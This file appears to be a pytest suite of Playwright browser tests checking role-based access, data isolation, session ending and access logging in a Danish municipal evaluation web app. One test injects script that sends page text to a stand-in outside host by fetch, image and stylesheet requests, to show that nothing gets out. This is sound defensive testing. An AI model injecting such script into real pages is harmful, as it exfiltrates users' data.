"""Each role's journeys in a real browser against ``ssp-eval serve`` (Debian's Chromium).

What a role may not see is checked where it would travel: every websocket frame the browser
receives (the widgets' state and outputs come that way, not in the page's HTML) and the page
text, for a network's contact on their pages, also when the address asks for another network.
A page whose session ends (here: the user disabled) says so, nothing on a page is fetched
from another host, and a page can send nothing to one. A team member's saved judgement carries their name into the history; the access log has the
rows the steps should write. Screenshots go to artefacts/screenshots/.
"""

from __future__ import annotations

import http.server
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page
from serverkit import PAGE_TIMEOUT_MS, PASSWORDS, RunningServer

from evaluation.analysis import queries
from evaluation.server import users
from evaluation.server.accesslog import AccessLog
from evaluation.settings import REPO_ROOT, access_log_path
from evaluation.store import db

pytestmark = pytest.mark.browser
SCREENSHOTS = REPO_ROOT / "artefacts" / "screenshots"
SSP_EVAL = str(Path(sys.executable).with_name("ssp-eval"))


class Session:
    """One person's browser tab, with every websocket frame it received."""

    def __init__(self, browser: Browser, server: RunningServer) -> None:
        self.context = browser.new_context(viewport={"width": 1280, "height": 900})
        self.page: Page = self.context.new_page()
        self.page.set_default_timeout(PAGE_TIMEOUT_MS)
        self.server = server
        self.frames: list[str] = []
        self.page.on("websocket", lambda ws: ws.on("framereceived", lambda payload: self.frames.append(
            payload if isinstance(payload, str) else payload.decode("utf-8", "replace"))))

    def login(self, name: str, path: str) -> None:
        self.page.goto(self.server.url(path), timeout=PAGE_TIMEOUT_MS)
        self.page.fill("#username", name)
        self.page.fill("#password", PASSWORDS[name])
        self.page.click("button[type=submit]")

    def screenshot(self, name: str) -> None:
        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
        self.page.screenshot(path=str(SCREENSHOTS / f"{name}.png"), full_page=True)

    def close(self) -> None:
        self.context.close()


def other_networks(db_path: Path, own: str) -> list[str]:
    with db.reader(db_path) as con:
        return [n for n in queries.filter_options(con).networks if n != own]


def test_a_network_contact_receives_nothing_about_other_networks(browser: Browser, served: RunningServer) -> None:
    tab = Session(browser, served)
    try:
        tab.login("lars", "/voila/render/netvaerk.ipynb?netvaerk=Hirtshals")
        tab.page.wait_for_selector(".ssp-network-choice", timeout=PAGE_TIMEOUT_MS)
        tab.page.wait_for_function("document.querySelectorAll('.js-plotly-plot').length >= 2",
                                   timeout=PAGE_TIMEOUT_MS)
        tab.screenshot("server-netvaerk-som-kontaktperson")
        network_page = tab.page.inner_text("body")
        navigation = tab.page.inner_html(".ssp-nav")
        tab.page.goto(served.url("/voila/render/indlaes.ipynb"), timeout=PAGE_TIMEOUT_MS)
        tab.page.wait_for_selector(".ssp-import-list", timeout=PAGE_TIMEOUT_MS)
        tab.screenshot("server-indlaes-som-kontaktperson")
        upload_page = tab.page.inner_text("body")
        refused = tab.page.goto(served.url("/voila/render/aarsevaluering.ipynb"), timeout=PAGE_TIMEOUT_MS)
        assert refused.status == 403 and "Du har ikke adgang" in tab.page.inner_text("body")
        frames = "\n".join(tab.frames)
        assert "Sindal" in frames and "Sindal" in network_page  # their own network came through
        for text, where in ((frames, "websocket"), (network_page, "Netværk"), (upload_page, "Indlæs udtræk")):
            leaked = [name for name in other_networks(served.db_path, "Sindal") if name in text]
            assert not leaked, (where, leaked)
        assert "aarsevaluering.ipynb" not in navigation and "indlaes.ipynb" in navigation  # only their pages
    finally:
        tab.close()
    events = AccessLog(access_log_path(served.db_path)).events(username="lars")
    kinds = [(e.event, e.page) for e in reversed(events)]
    assert ("login", None) in kinds and ("page", "netvaerk.ipynb") in kinds and ("page", "indlaes.ipynb") in kinds
    assert ("refused", "aarsevaluering.ipynb") in kinds
    assert any(e.event == "page" and e.network == "Hirtshals" for e in events)  # what was asked for is logged


def test_a_team_members_judgement_carries_their_name(browser: Browser, served: RunningServer) -> None:
    tab = Session(browser, served)
    try:
        tab.login("mette", "/voila/render/aarsevaluering.ipynb")  # the pre-heated kernel learns who asks
        button = tab.page.get_by_role("button", name="Gem vurdering")
        button.wait_for(timeout=PAGE_TIMEOUT_MS)
        tab.screenshot("server-aarsevaluering-som-team-foer")
        assert "mette" not in tab.page.inner_text("body")
        button.click()
        tab.page.wait_for_function("document.body.innerText.includes('mette')", timeout=PAGE_TIMEOUT_MS)
        tab.screenshot("server-aarsevaluering-som-team-efter")
        assert "ssp/brugere" in tab.page.inner_html(".ssp-nav")
    finally:
        tab.close()
    with db.reader(served.db_path) as con:
        saved_by = con.execute("SELECT saved_by FROM policy_judgements ORDER BY saved_at DESC LIMIT 1").fetchone()[0]
    assert saved_by == "mette"


def test_a_council_reader_only_has_the_published_editions(browser: Browser, served: RunningServer) -> None:
    tab = Session(browser, served)
    try:
        tab.login("lone", "/")
        tab.page.wait_for_url("**/ssp/udgivet", timeout=PAGE_TIMEOUT_MS)
        tab.screenshot("server-udgivet-som-laeser")
        assert "Udgivne rapporter" in tab.page.inner_text("h1")
        for path in ("/voila/render/udforsk.ipynb", "/voila/render/netvaerk.ipynb", "/ssp/log"):
            assert tab.page.goto(served.url(path), timeout=PAGE_TIMEOUT_MS).status == 403
        assert not tab.frames  # no page of theirs ever opened a kernel
    finally:
        tab.close()


def test_a_disabled_user_loses_the_open_page_and_it_says_so(browser: Browser, served: RunningServer) -> None:
    users.add_user(served.db_path, "tove", role="team", password=PASSWORDS["tove"], display_name="Tove")
    tab = Session(browser, served)
    requested: list[str] = []
    tab.page.on("request", lambda request: requested.append(request.url))
    closed: list[str] = []
    tab.page.on("websocket", lambda ws: ws.on("close", lambda socket: closed.append(socket.url)))
    try:
        tab.login("tove", "/voila/render/udforsk.ipynb")
        tab.page.wait_for_selector(".ssp-page .js-plotly-plot", timeout=PAGE_TIMEOUT_MS)
        assert not tab.page.locator("#ssp-session-ended").count()
        outside = [url for url in requested if not url.startswith((served.url("/"), "data:", "blob:"))]
        assert not outside, outside  # Voilà's template links a CDN; nothing may leave the server
        disabled = subprocess.run([SSP_EVAL, "users", "disable", "tove", "--db", str(served.db_path)],
                                  capture_output=True, text=True, timeout=120)
        assert disabled.returncode == 0, disabled.stderr
        notice = tab.page.locator("#ssp-session-ended")
        notice.wait_for(state="visible", timeout=PAGE_TIMEOUT_MS)
        tab.screenshot("server-session-slut")
        assert "Du er ikke længere logget ind" in notice.inner_text()
        notice.get_by_role("link", name="Log ind igen").click()
        tab.page.wait_for_selector("#username", timeout=PAGE_TIMEOUT_MS)
        assert "next=%2Fvoila%2Frender%2Fudforsk.ipynb" in tab.page.url
    finally:
        tab.close()
    ended = AccessLog(access_log_path(served.db_path)).events(username="tove", event="session_ended")
    assert ended and ended[0].detail == "deaktiveret"


class Listener(http.server.BaseHTTPRequestHandler):
    """Stands in for a host outside the municipality: records every request that reaches it."""

    received: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        Listener.received.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


def test_a_page_sends_nothing_to_another_host(browser: Browser, served: RunningServer) -> None:
    outside = http.server.ThreadingHTTPServer(("127.0.0.2", 0), Listener)
    thread = threading.Thread(target=outside.serve_forever, daemon=True)
    thread.start()
    target = f"http://127.0.0.2:{outside.server_address[1]}"
    tab = Session(browser, served)
    try:
        tab.login("mette", "/voila/render/udforsk.ipynb")
        tab.page.wait_for_selector(".ssp-page .js-plotly-plot", timeout=PAGE_TIMEOUT_MS)
        # What injected markup or script would try: a request, an image, a style sheet, a form.
        tab.page.evaluate("""(target) => {
            fetch(target + "/fetch?d=" + encodeURIComponent(document.body.innerText.slice(0, 40))).catch(() => 0);
            new Image().src = target + "/img";
            const link = document.createElement("link");
            link.rel = "stylesheet"; link.href = target + "/css"; document.head.appendChild(link);
        }""", target)
        tab.page.wait_for_timeout(3000)
        assert tab.page.locator(".ssp-page .js-plotly-plot").count() >= 1  # the page itself still works
    finally:
        tab.close()
        outside.shutdown()
    assert Listener.received == []
